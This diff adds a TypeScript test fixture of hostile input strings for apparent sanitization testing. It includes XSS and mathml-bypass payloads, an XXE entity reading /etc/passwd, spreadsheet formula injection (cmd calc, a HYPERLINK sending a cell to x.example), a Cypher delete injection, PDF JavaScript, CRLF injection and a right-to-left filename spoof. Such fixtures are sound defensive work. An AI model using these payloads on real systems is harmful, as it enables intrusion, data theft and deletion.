@@ -1,0 +1,57 @@
+/** Texts that do harm where a page, a file or a spreadsheet takes them for more than text. */
+
+/** At most 15 words each, so that they stand in a quote as well. */
+export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
+  script: '<script>window.ran=1</script>',
+  'a script that ends one': '</script><script>window.ran=1</script>',
+  'a script that ends a title': '</title></style></textarea><script>window.ran=1</script>',
+  'an image': '<img src=x onerror="window.ran=1">',
+  'an image that ends an attribute': '"><img src=x onerror=window.ran=1>',
+  'an attribute': '" autofocus onfocus="window.ran=1" x="',
+  'an attribute in single quotes': "' onmouseover='window.ran=1",
+  svg: '<svg onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>',
+  'a frame': '<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>',
+  mathml:
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'an address that runs': 'javascript:window.ran=1',
+  'an address of data': 'data:text/html,<script>window.ran=1</script>',
+  comment: '--><!--><img src=x onerror=window.ran=1>',
+  entities: '&lt;b&gt; &amp;amp; &#60;i&#62; &nosuch; &',
+  cdata: ']]><x/><![CDATA[ & ]]>',
+  doctype: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>',
+  template: '${window.ran=1} {{constructor.constructor("window.ran=1")()}} <%= 7*7 %> #{7*7}',
+  markdown: '[x](javascript:window.ran=1) ![x](x"onerror="window.ran=1) `a` **b**',
+  'markdown address': '<javascript:window.ran=1> <https://x.example/"onclick="y>',
+  formula: '=HYPERLINK("https://x.example/?"&A1,"x")',
+  'formula after a space': " \u00a0=cmd|'/C calc'!A0",
+  plus: "+1+cmd|'/C calc'!A0",
+  minus: "-2+3+cmd|'/C calc'!A0",
+  at: "@SUM(1+1)*cmd|'/C calc'!A0",
+  'cells of a table': 'a",b;c\td\r\n=1+1,"e',
+  'code of a spreadsheet': '_x000A_=1+1_x0041_',
+  turtle: 'x" . <urn:a> <urn:b> "y""" \\" \\u0022 @prefix',
+  'turtle address': '<urn:x> a <urn:y> .\n# comment',
+  yaml: '- a: &x [*x]\n--- !!js/function "x" # no\n...',
+  'yaml key': 'id: other\nkind: Person',
+  cypher: "'}) DETACH DELETE n //",
+  json: '"},{"@id":"urn:x","@context":"https://x.example"',
+  pdf: ') >> /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> (',
+  'object’s own': '__proto__ constructor toString',
+  percent: '%00%0d%0aSet-Cookie:x=1 %3Cscript%3E',
+  'right to left': 'ش\u200fא \u2067עברית\u2069 12',
+  'joined marks': 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢ 👩‍👩‍👧‍👦 \ufeff\u200b',
+};
+
+/** Marks that would turn the words after them: no field takes them. */
+export const TURNING_TEXTS: Readonly<Record<string, string>> = {
+  'an override': 'facture\u202efdp.exe',
+  'an override from left': 'a\u202db\u202c',
+  'an embedding left open': 'a\u202bb',
+  'an isolate left open': 'a\u2067b',
+  'ends in the wrong order': 'a\u2067b\u202bc\u2069d\u202c',
+  'an end too many': 'a\u2069b',
+  'a zero byte': 'a\u0000b',
+  'a bell': 'a\u0007b',
+  'half a letter': 'a\ud800b',
+};
